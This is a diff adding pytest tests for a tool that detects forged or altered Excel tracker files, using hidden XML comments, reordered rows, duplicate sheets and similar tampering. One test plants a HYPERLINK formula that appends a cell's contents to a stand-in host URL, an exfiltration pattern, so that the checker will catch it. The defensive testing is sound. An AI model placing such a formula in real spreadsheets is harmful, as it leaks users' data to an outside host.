@@ -209,3 +209,91 @@ def test_a_file_that_is_something_else_is_called_so(
 ) -> None:
     (desk.folder / "tracker.xlsx").write_bytes(content)
     assert said in desk("check", "tracker.xlsx", code=1).out
+
+
+def at_first(old: bytes, new: bytes) -> Callable[[bytes], bytes]:
+    def change(part: bytes) -> bytes:
+        assert old in part
+        return part.replace(old, new, 1)
+
+    return change
+
+
+SUMMARY, BOOK = "xl/worksheets/sheet1.xml", "xl/workbook.xml"
+STRANGE = b'<sheet xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
+FORGERIES = {
+    "a comment in a text": (
+        SUMMARY,
+        b"MDF tracker<",
+        b"MDF<!-- --> tracker, void<",
+        "CELL-ALTERED",
+    ),
+    "a comment in a value": (SUMMARY, b"<v>5000</v>", b"<v>5000<!-- -->9</v>", "CELL-ALTERED"),
+    "an element in a value": (SUMMARY, b"<v>5000</v>", b"<v>5000<x>9</x></v>", "FILE-XML"),
+    "a second value": (SUMMARY, b"<v>5000</v>", b"<v>9</v><is><t>5000</t></is>", "FILE-XML"),
+    "a row that goes back": (SUMMARY, b'<row r="3"', b'<row r="1"', "FILE-XML"),
+    "a cell of another row": (SUMMARY, b'<c r="B3"', b'<c r="B4"', "FILE-XML"),
+    "days from 1904": (BOOK, b"<workbookPr", b'<workbookPr date1904="1"', "DAYS-1904"),
+    "a sheet of no kind": (
+        BOOK,
+        b"</sheets>",
+        STRANGE + b'name="New" sheetId="99" r:id="x"/></sheets>',
+        "SHEET-UNREAD",
+    ),
+    "a sheet twice": (
+        BOOK,
+        b"</sheets>",
+        STRANGE + b'name="About" sheetId="99" r:id="x"/></sheets>',
+        "FILE-XML",
+    ),
+}
+
+
+@pytest.mark.parametrize(("part", "old", "new", "code"), FORGERIES.values(), ids=FORGERIES.keys())
+def test_forgeries_that_other_programs_would_show(
+    desk: CommandLine, part: str, old: bytes, new: bytes, code: str
+) -> None:
+    (path,) = (desk.folder / "trackers").glob("*P-1.xlsx")
+    forged = repackaged(path, {part: at_first(old, new)})
+    (report,) = desk("check", forged, "--json", code=1).json
+    assert code in report["counts"], report
+
+
+def test_a_formula_that_was_put_under_a_value_is_an_alteration(desk: CommandLine) -> None:
+    (path,) = (desk.folder / "trackers").glob("*P-1.xlsx")
+
+    def change(part: bytes) -> bytes:
+        text, count = re.subn(
+            rb'<c r="B2"( s="\d+") t="inlineStr"><is><t>([^<]*)</t></is></c>',
+            rb'<c r="B2"\1 t="str"><f>HYPERLINK("http://e.example/"&amp;B3)</f><v>\2</v></c>',
+            part,
+        )
+        assert count == 1
+        return text
+
+    said = desk("check", repackaged(path, {SUMMARY: change}), code=1).out
+    assert "Summary!B2  the desk issued 'no formula', here stands '=hyperlink(" in said
+
+
+def test_a_file_without_its_version_is_compared_all_the_same(desk: CommandLine) -> None:
+    (path,) = (desk.folder / "trackers").glob("*P-1.xlsx")
+
+    def without(part: bytes) -> bytes:
+        text, count = re.subn(rb"<cp:version>[^<]*</cp:version>", b"", part)
+        assert count == 1
+        return text
+
+    plain = repackaged(path, {"docProps/core.xml": without})
+    assert "as issued" in desk("check", plain).out
+    changed = at_first(b"<v>5000</v>", b"<v>5001</v>")
+    forged = repackaged(path, {"docProps/core.xml": without, SUMMARY: changed})
+    assert "CELL-ALTERED" in desk("check", forged, code=1).out
+
+
+@pytest.mark.parametrize("position", [b"1e300", b"1e19", b"-1", b"1.5", b"nan", b"inf"])
+def test_an_impossible_position_is_no_traceback(desk: CommandLine, position: bytes) -> None:
+    (path,) = (desk.folder / "trackers").glob("*P-1.xlsx")
+    sheets = openpyxl.load_workbook(path).sheetnames
+    about = f"xl/worksheets/sheet{sheets.index('About') + 1}.xml"
+    forged = repackaged(path, {about: at_first(b"<v>4</v>", b"<v>" + position + b"</v>")})
+    assert desk("check", forged, code=1).out
